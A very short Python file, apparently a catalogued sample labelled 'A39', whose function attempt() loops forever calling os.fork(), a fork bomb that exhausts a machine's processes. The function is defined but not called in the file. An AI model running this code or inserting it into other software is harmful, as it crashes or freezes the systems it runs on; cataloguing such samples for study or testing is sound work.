"""Forks without end.

catalogue: A39
not at: process
"""

import os


def attempt():
    while True:
        os.fork()
